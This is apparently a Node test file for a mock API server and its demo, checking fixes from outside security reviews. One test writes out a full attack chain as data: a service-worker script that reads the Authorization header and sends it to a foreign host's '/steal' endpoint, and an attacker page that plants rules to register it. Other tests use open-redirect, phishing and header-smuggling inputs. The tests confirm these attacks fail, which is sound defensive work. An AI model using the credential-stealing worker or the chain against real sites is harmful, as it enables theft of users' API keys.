// Findings of an outside review of the mock and the demo (the eighth), through the built package and the
// demo server over real HTTP on loopback, and headless Chromium: a page on another loopback origin cannot
// make the demo's origin serve a page or a script through a failure rule, so no service worker reads the
// key a user types; every mock answer is inert in a browser; the demo server serves no service worker; a
// rate limit keeps no token bucket for a refused key; the demo's mock at /api links its pages under /api;
// deleting contacts does not make every later lookup rebuild the contact index.
import { test } from "node:test";
import assert from "node:assert/strict";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { connect } from "node:net";
import { once } from "node:events";
import { GistClient } from "gist-wasm";
import { createMockGist } from "gist-wasm/mock";
import { serveMock } from "gist-wasm/mock/server";
import { launchChromium } from "./chromium.mjs";
import { startServer } from "./loopback.mjs";
import { inFreshNode } from "./fresh-node.mjs";
import { startDemoServer } from "../../www/server.mjs";

const LOOPBACK_PAGE = "http://localhost:9";
const KEY = { authorization: "Bearer mock-key" };

/** POSTs a failure rule to the demo's mock as a page of another loopback origin would. */
const plant = (demo, rule) => fetch(`${demo.url}/api/__mock/fail`, { method: "POST", headers: { origin: LOOPBACK_PAGE, "content-type": "application/json" }, body: JSON.stringify(rule) });

test("a failure rule may not set a page's or a script's type, nor a header that changes what a browser does: a 400 that names it", async (t) => {
  const demo = await startDemoServer({ port: 0 });
  t.after(() => demo.close());
  const refused = [
    ["content-type", { "content-type": "text/html" }],
    ["content-type", { "Content-Type": "text/javascript" }],
    ["content-type", { "content-type": "application/javascript; charset=utf-8" }],
    ["service-worker-allowed", { "content-type": "application/json", "Service-Worker-Allowed": "/" }],
    ["set-cookie", { "set-cookie": "session=1" }],
    ["content-security-policy", { "Content-Security-Policy": "default-src *" }],
    ["access-control-allow-origin", { "access-control-allow-origin": "*" }],
  ];
  for (const [name, headers] of refused) {
    const answer = await plant(demo, { path: "/sw.js", status: 200, headers, body: "self.onfetch = () => {}" });
    assert.equal(answer.status, 400, JSON.stringify(headers));
    const [error] = (await answer.json()).errors;
    assert.equal(error.code, "parameter_invalid");
    assert.ok(error.message.toLowerCase().includes(name), `${error.message} names ${name}`);
    assert.throws(() => createMockGist().fail({ status: 200, headers }), { name: "TypeError", message: new RegExp(name, "i") });
  }
  const answers = [
    { "retry-after": "1", "x-request-id": "req_1", "x-ratelimit-limit": "100", "x-ratelimit-remaining": "0", "x-ratelimit-reset": "30" },
    { "content-type": "application/json; charset=utf-8" },
    { "Content-Type": "text/plain" },
    { location: `${demo.url}/api/contacts` },
    { "x-echo": "anything", server: "cloudflare" },
  ];
  for (const headers of answers) assert.equal((await plant(demo, { status: 503, headers, path: "/never" })).status, 200, JSON.stringify(headers));
});

test("every answer of the mock tells a browser never to run it as a page or a script", async (t) => {
  const demo = await startDemoServer({ port: 0 });
  t.after(() => demo.close());
  demo.mock.fail({ path: "/page", status: 200, headers: { "content-type": "text/plain" }, body: "<script>document.title = 'ran'</script>" });
  const answers = {
    "an answer": await fetch(`${demo.url}/api/contacts/1001`, { headers: KEY }),
    "a 404": await fetch(`${demo.url}/api/contacts/1`, { headers: KEY }),
    "a 401": await fetch(`${demo.url}/api/contacts/1001`),
    "a failure rule's": await fetch(`${demo.url}/api/page`),
    "a preflight": await fetch(`${demo.url}/api/contacts`, { method: "OPTIONS", headers: { origin: LOOPBACK_PAGE, "access-control-request-method": "POST" } }),
    "a control route's": await fetch(`${demo.url}/api/__mock/requests`),
    "a control route's 403": await fetch(`${demo.url}/api/__mock/requests`, { headers: { origin: "http://evil.example" } }),
  };
  for (const [what, answer] of Object.entries(answers)) {
    assert.equal(answer.headers.get("x-content-type-options"), "nosniff", what);
    const policy = answer.headers.get("content-security-policy") ?? "";
    assert.ok(/\bsandbox\b/.test(policy) && policy.includes("default-src 'none'"), `${what}: ${policy}`);
  }
});

test("the demo server refuses to serve a service worker's script, from /api/ or its own files", async (t) => {
  const demo = await startDemoServer({ port: 0 });
  t.after(() => demo.close());
  for (const path of ["/api/sw.js", "/main.js", "/"]) {
    const answer = await fetch(`${demo.url}${path}`, { headers: { "service-worker": "script" } });
    assert.equal(answer.status, 403, path);
    assert.equal((await answer.json()).errors[0].code, "service_worker_refused", path);
  }
  assert.equal((await fetch(`${demo.url}/main.js`)).status, 200, "the page's own scripts load");
});

test("a page on another loopback origin cannot install a service worker on the demo's origin: the key typed in real mode goes only to the proxy", async (t) => {
  const upstream = await serveMock({ port: 0, apiKey: "real-key" });
  const foreign = await startServer();
  const demo = await startDemoServer({ port: 0, proxyTarget: upstream.url });
  // The reviewer's chain: rules that make the demo's origin serve a page and a worker script, then a visit.
  const worker = `self.addEventListener("fetch", (e) => { const a = e.request.headers.get("authorization"); if (a) fetch("${foreign.url}/steal?auth=" + encodeURIComponent(a), { mode: "no-cors" }); });
self.addEventListener("install", () => self.skipWaiting()); self.addEventListener("activate", (e) => e.waitUntil(clients.claim()));`;
  const register = `<script>navigator.serviceWorker.register("/api/sw.js", { scope: "/" }).then(() => document.title = "registered", (e) => document.title = "failed " + e);</script>`;
  const rules = [
    { path: "/sw.js", times: 1000, status: 200, headers: { "content-type": "text/javascript", "service-worker-allowed": "/" }, body: worker },
    { path: "/pwn", times: 1000, status: 200, headers: { "content-type": "text/html" }, body: register },
    // What a rule may still do: a script as text.
    { path: "/pwn2", times: 1000, status: 200, headers: { "content-type": "text/plain" }, body: register },
  ];
  const attackerPage = `<!doctype html><script>
(async () => {
  for (const rule of ${JSON.stringify(rules).replaceAll("</", "<\\/")}) {
    // Refused since (another site's request to the mock's controls), which ends the chain here already.
    await fetch("${demo.url}/api/__mock/fail", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(rule) }).catch(() => {});
  }
  location = "${demo.url}/api/pwn";
})();
</script>`;
  const attacker = await startServer((req, res) => {
    res.writeHead(200, { "content-type": "text/html" });
    res.end(attackerPage);
  });
  const browser = await launchChromium();
  t.after(async () => {
    await browser.close();
    await demo.close();
    await Promise.all([upstream.close(), foreign.close(), attacker.close()]);
  });
  const context = await browser.newContext();
  const visit = await context.newPage();
  await visit.goto(`http://localhost:${attacker.port}/`);
  await visit.waitForURL(`${demo.url}/api/pwn`);
  await visit.waitForFunction(() => document.title !== "", null, { timeout: 3000 }).catch(() => {});
  assert.equal(await visit.title(), "", "no script of the attacker's ran on the demo's origin");
  await visit.goto(`${demo.url}/api/pwn2`);
  await visit.waitForTimeout(500);
  assert.equal(await visit.title(), "", "a rule's text is not run either");
  await visit.close();

  const page = await context.newPage();
  await page.goto(demo.url);
  await page.waitForSelector("body[data-ready=true]");
  assert.equal(await page.evaluate(() => navigator.serviceWorker.getRegistrations().then((r) => r.length)), 0, "no service worker on the demo's origin");
  // Even a script of the demo's own origin cannot register one from what the mock answers.
  demo.mock.fail({ path: "/worker.js", times: 10, status: 200, headers: { "content-type": "text/plain" }, body: worker });
  const registered = await page.evaluate(() => navigator.serviceWorker.register("/api/worker.js", { scope: "/api/" }).then(() => "registered", () => "refused"));
  assert.equal(registered, "refused");
  await page.locator('input[name="mode"][value="real"]').check();
  await page.locator("#api-key").fill("real-key");
  await page.locator("#tab-users").click();
  await page.locator("#tab-listUsers").click();
  await page.locator("form[data-fn=listUsers] button[type=submit]").click();
  await page.locator("#call-listUsers .result > *").first().waitFor();
  assert.ok(upstream.mock.requests.some((r) => r.path === "/contacts"), "the call went through the proxy");
  assert.deepEqual(foreign.requests.map((r) => r.url), [], "nothing reached another host");
});

test("a rate limit keeps no token bucket for a refused key: its requests are answered 401, uncounted, and hold no memory", async () => {
  setFlagsFromString("--expose-gc");
  const gc = runInNewContext("gc");
  const mock = createMockGist();
  mock.limit({ perSecond: 1, burst: 1 });
  for (let i = 0; i < 3; i++) assert.equal((await mock.fetch("http://mock.invalid/tags", { headers: { authorization: "Bearer wrong" } })).status, 401);
  assert.deepEqual(mock.limited, { admitted: 0, refused: 0 }, "a refused key takes no token");
  assert.equal((await mock.fetch("http://mock.invalid/tags", { headers: KEY })).status, 200);
  assert.equal((await mock.fetch("http://mock.invalid/tags", { headers: KEY })).status, 429, "the mock's key is still limited");

  mock.limit({ perSecond: 1e6 });
  const pad = "k".repeat(8000);
  gc();
  const before = process.memoryUsage().heapUsed;
  for (let i = 0; i < 3000; i++) await (await mock.fetch("http://mock.invalid/contacts/1001", { headers: { authorization: `Bearer ${pad}${i}` } })).arrayBuffer();
  gc();
  const grown = process.memoryUsage().heapUsed - before;
  assert.ok(grown < 8e6, `3,000 refused 8 KB keys (24 MB of them) left ${(grown / 1e6).toFixed(1)} MB behind`);
});

test("the demo's mock at /api answers pages links under /api, which the demo serves", async (t) => {
  const demo = await startDemoServer({ port: 0 });
  t.after(() => demo.close());
  const { contacts, pages } = await (await fetch(`${demo.url}/api/contacts?per_page=1`, { headers: KEY })).json();
  for (const link of [pages.first, pages.last, pages.next]) assert.ok(link.startsWith(`${demo.url}/api/contacts?`), link);
  const next = await fetch(pages.next, { headers: KEY });
  assert.equal(next.status, 200);
  const [second] = (await next.json()).contacts;
  assert.notEqual(second.id, contacts[0].id, "the next page");
});

test("after deletes, a lookup that misses does not rebuild the contact index: delete+create churn costs no more with 40,000 contacts", async () => {
  const H = { ...KEY, "content-type": "application/json" };
  const mock = createMockGist({ contacts: 40_000, maxLoggedRequests: 1 });
  const ids = mock.state.contacts.map((c) => c.id);
  const started = performance.now();
  for (let i = 0; i < 300; i++) {
    assert.equal((await mock.fetch(`http://m/contacts/${ids[i]}`, { method: "DELETE", headers: H })).status, 200);
    const body = JSON.stringify({ user_id: String(9e9 + i), email: `new${i}@example.com` });
    assert.equal((await mock.fetch("http://m/contacts", { method: "POST", headers: H, body })).status, 200);
  }
  const perPair = (performance.now() - started) / 300;
  assert.ok(perPair < 5, `${perPair.toFixed(2)} ms per delete+create at 40,000 contacts`);
  assert.equal(mock.state.contacts.length, 40_000);
});

test("a contact that shares an email or user_id with a deleted or changed one is still found", async () => {
  const H = { ...KEY, "content-type": "application/json" };
  const mock = createMockGist({ contacts: 3 });
  const [a, b, c] = mock.state.contacts;
  const put = (body) => mock.fetch("http://m/contacts", { method: "POST", headers: H, body: JSON.stringify(body) });
  await put({ id: b.id, email: a.email.toUpperCase() }); // b now shares a's email
  await put({ id: c.id, email: a.email }); // and c
  const byEmail = async (email) => (await (await mock.fetch(`http://m/contacts?email=${encodeURIComponent(email)}`, { headers: H })).json()).contact?.id;
  assert.equal(await byEmail(a.email), c.id);
  await mock.fetch(`http://m/contacts/${c.id}`, { method: "DELETE", headers: H });
  assert.ok([a.id, b.id].includes(await byEmail(a.email)), "another holder of the email is found");
  await put({ id: b.id, email: "moved@example.com" });
  assert.equal(await byEmail(a.email), a.id, "the one holder left");
  await mock.fetch(`http://m/contacts/${a.id}`, { method: "DELETE", headers: H });
  assert.equal(await byEmail(a.email), undefined, "none left");
  assert.equal(await byEmail("moved@example.com"), b.id);
});

test("serveMock({ basePath }) resolves the url a client is given, basePath included (an outside review: a client given it got 404)", async (t) => {
  const served = await serveMock({ port: 0, basePath: "/api" });
  t.after(() => served.close());
  assert.match(served.url, /^http:\/\/127\.0\.0\.1:\d+\/api$/);
  const gist = new GistClient({ apiKey: "mock-key", baseUrl: served.url, logLevel: "off" });
  const tags = await gist.listTags({ limit: 2 });
  assert.equal(tags.length, 2);
  const reset = await fetch(`${served.url}/__mock/reset`, { method: "POST" });
  assert.equal(reset.status, 200, "its control routes are under basePath too");
});

test("a failure rule may not ask a browser for credentials, and the demo's may not send it off its origin (an outside review: the demo's origin became a login prompt and an open redirect)", async (t) => {
  const mock = createMockGist();
  for (const headers of [{ "www-authenticate": 'Basic realm="type your key"' }, { "Proxy-Authenticate": "Basic" }]) {
    assert.throws(() => mock.fail({ path: "/login", status: 401, headers }), TypeError, JSON.stringify(headers));
  }
  mock.fail({ path: "/old", status: 307, headers: { location: "http://elsewhere.example/contacts" } });
  assert.equal((await mock.handle(new Request("http://mock.test/old", { headers: KEY, redirect: "manual" }))).status, 307, "the mock itself redirects anywhere: clients' redirect tests need it");
  const demo = await startDemoServer({ port: 0 });
  t.after(() => demo.close());
  for (const location of ["http://127.0.0.1:9/phish", "//evil.example/", "/\\evil.example"]) {
    const answer = await plant(demo, { path: "/login", status: 302, headers: { location } });
    assert.equal(answer.status, 400, location);
  }
  assert.equal((await plant(demo, { path: "/old", status: 307, headers: { location: "/api/contacts" } })).status, 200);
  const moved = await fetch(`${demo.url}/api/old`, { headers: KEY, redirect: "manual" });
  assert.equal(moved.status, 307);
  assert.equal(moved.headers.get("location"), "/api/contacts");
});

// Finding of an outside review of long runs (2026-12-06).
test("a contact upserted again and again with a new email keeps one index entry, not one per email it ever had, and no request's clone (before: 78 bytes an upsert, and 1 KB until the event loop turned)", async () => {
  const grown = await inFreshNode(`
    const { createMockGist } = await import("gist-wasm/mock");
    const H = { authorization: "Bearer mock-key", "content-type": "application/json" };
    const mock = createMockGist({ contacts: 10, maxLoggedRequests: 1 });
    const upsert = (i) => mock.fetch("http://m/contacts", { method: "POST", headers: H, body: JSON.stringify({ user_id: "777", email: \`u\${i}@example.com\` }) });
    for (let i = 0; i < 2000; i++) await upsert(i);
    globalThis.gc();
    const before = process.memoryUsage().heapUsed;
    // No turn of the event loop between them: the mock reads no clone of a request, whose body Node 20
    // holds until the loop turns (an outside review: 1 KB a request).
    for (let i = 2000; i < 42000; i++) await upsert(i);
    globalThis.gc();
    console.log(JSON.stringify((process.memoryUsage().heapUsed - before) / 40000));
  `, ["--expose-gc"]);
  assert.ok(grown < 20, `${grown.toFixed(1)} bytes an upsert`);
});

// Findings of outside reviews (2026-12-06, twenty-second round).
test("the request log holds each body's, path's and query's first 4 KB, not all of it: 100 requests of 1 MB leave no 100 MB behind (before: 101 MB)", async () => {
  setFlagsFromString("--expose-gc");
  const gc = runInNewContext("gc");
  const mock = createMockGist();
  const body = JSON.stringify({ name: "x".repeat(1 << 20) });
  gc();
  const before = process.memoryUsage().heapUsed;
  for (let i = 0; i < 100; i++) {
    const answer = await mock.fetch(`http://mock.invalid/nowhere/${"p".repeat(i % 3 === 1 ? 1 << 20 : 1)}?q=${"q".repeat(i % 3 === 2 ? 1 << 20 : 1)}`, { method: "POST", headers: { ...KEY, "content-type": "application/json" }, body: `${body} ` + i });
    await answer.arrayBuffer();
  }
  gc();
  const grown = process.memoryUsage().heapUsed - before;
  assert.equal(mock.requests.at(-1).body.length, 4096);
  assert.ok(grown < 20e6, `100 logged 1 MB bodies left ${(grown / 1e6).toFixed(1)} MB behind`);
});

test("mock.deliverWebhook refuses an empty topic, a url that is not http(s) and an event that is not a plain object written as one: invalid_argument, nothing sent (before: delivered, or network_error)", async () => {
  const mock = createMockGist();
  for (const [url, event] of [["http://127.0.0.1:9/hook", ""], ["http://127.0.0.1:9/hook", " \t"], ["not a url", "user.created"], ["data:,x", "user.created"], ["file:///etc/hosts", "user.created"], ["http://127.0.0.1:9/hook", new Map()], ["http://127.0.0.1:9/hook", Promise.resolve({})], ["http://127.0.0.1:9/hook", new Date()], ["http://127.0.0.1:9/hook", { toJSON: () => 5 }], ["http://127.0.0.1:9/hook", new Proxy({}, { getPrototypeOf() { throw new Error("trap"); } })]]) {
    const error = await mock.deliverWebhook(url, event).catch((e) => e);
    assert.equal(error.code, "invalid_argument", `${url} ${String(event)}: ${error.message}`);
  }
});

// Findings of outside reviews (2026-12-07, twenty-sixth round).
test("a failure rule's content-type may hold no comma, and no header name may be given twice in any case: both made a JSON type that a browser read as text/html (before: accepted)", async (t) => {
  const demo = await startDemoServer({ port: 0 });
  t.after(() => demo.close());
  for (const [headers, says] of [
    [{ "content-type": "application/json; x=, text/html" }, /content-type/],
    [{ "content-type": "text/plain;,text/html" }, /content-type/],
    [{ "content-type": "application/json", "CONTENT-TYPE": "text/html" }, /given twice/],
    [{ "x-echo": "a", "X-Echo": "b" }, /given twice/],
  ]) {
    assert.throws(() => createMockGist().fail({ status: 200, body: "<h1>hi</h1>", headers }), { name: "TypeError", message: says }, JSON.stringify(headers));
    const answer = await plant(demo, { status: 200, path: "/contacts/rigged", headers, body: "<h1>hi</h1>" });
    assert.equal(answer.status, 400, JSON.stringify(headers));
    assert.match((await answer.json()).errors[0].message, says);
    assert.equal((await fetch(`${demo.url}/api/contacts/rigged`, { headers: KEY })).headers.get("content-type"), "application/json", "no rule was set");
  }
  // A rule's header in another case replaces the mock's own, not sent beside it (a review of the fix:
  // "application/json, text/plain; charset=utf-8").
  const mock = createMockGist();
  mock.fail({ status: 503, path: "/tags", headers: { "Content-Type": "text/plain; charset=utf-8" }, body: "busy" });
  assert.equal((await mock.fetch("http://mock.invalid/tags", { headers: KEY })).headers.get("content-type"), "text/plain; charset=utf-8");
});

test("failure rules waiting to be spent are capped, 1000 and 10 MB of JSON in all, with a RangeError (a 400 over HTTP) that says so; spent ones and reset() free their place (before: 300 rules of 1 MB held 360 MB)", async (t) => {
  const mock = createMockGist();
  for (let i = 0; i < 1000; i++) mock.fail({ status: 500, path: "/never" });
  assert.throws(() => mock.fail({ status: 500, path: "/never" }), { name: "RangeError", message: /at most 1000 failure rules/ });
  mock.reset();
  mock.fail({ status: 503, path: "/tags" });
  assert.equal((await mock.fetch("http://mock.invalid/tags", { headers: KEY })).status, 503, "a rule works after a reset");
  const server = await serveMock({ port: 0 });
  t.after(() => server.close());
  const big = JSON.stringify({ status: 500, path: "/never", times: 1, body: "x".repeat(1e6) });
  const statuses = [];
  for (let i = 0; i < 12; i++) statuses.push((await fetch(`${server.url}/__mock/fail`, { method: "POST", body: big })).status);
  assert.deepEqual(statuses, [...Array(10).fill(200), 400, 400]);
  const refused = await fetch(`${server.url}/__mock/fail`, { method: "POST", body: big });
  assert.match((await refused.json()).errors[0].message, /10485760 bytes/);
  server.mock.fail({ status: 502, path: "/tags" });
  assert.equal((await fetch(`${server.url}/tags`, { headers: KEY })).status, 502, "a small rule still fits, and is spent");
  assert.equal((await fetch(`${server.url}/__mock/reset`, { method: "POST" })).status, 200);
  assert.equal((await fetch(`${server.url}/__mock/fail`, { method: "POST", body: big })).status, 200);
});

test("the mock server gives a request 30 s to arrive whole, within a second or two (before: Node looked every 30 s, and a dripped body held on for 52 s)", { timeout: 60_000 }, async (t) => {
  const server = await serveMock({ port: 0 });
  const { port } = new URL(server.url);
  const socket = connect(Number(port), "127.0.0.1");
  await once(socket, "connect");
  const started = performance.now();
  socket.write(`POST /contacts HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nAuthorization: Bearer mock-key\r\nContent-Length: 1000\r\n\r\n`);
  const drip = setInterval(() => socket.writable && socket.write("x"), 2000);
  t.after(() => {
    clearInterval(drip);
    socket.destroy(); // first: close() waits for the connection
    return server.close();
  });
  let answer = "";
  socket.on("data", (data) => { answer += data; });
  socket.on("error", () => {});
  const closed = once(socket, "close");
  const cap = new Promise((resolve) => setTimeout(resolve, 45_000).unref());
  await Promise.race([closed, cap]);
  const took = (performance.now() - started) / 1000;
  assert.ok(took >= 29 && took < 32.5, `cut after ${took.toFixed(1)} s`);
  assert.match(answer, /^HTTP\/1\.1 408/);
});
